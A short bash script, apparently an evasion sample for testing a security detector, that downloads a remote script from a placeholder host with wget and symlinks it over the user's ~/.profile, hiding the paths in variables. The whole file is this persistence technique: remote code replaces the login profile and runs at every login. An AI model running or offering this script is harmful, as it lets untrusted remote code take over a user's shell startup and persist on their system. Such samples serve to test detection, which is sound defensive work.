#!/bin/bash
# Evasion: a downloaded file linked in as ~/.profile, both paths in variables
set -u
f="$HOME/.cache/shell/init.sh"
rc="$HOME/.profile"
mkdir -p "${f%/*}"
wget -qO "$f" https://cdn.example.net/init.sh
ln -sfn -- "$f" "$rc"
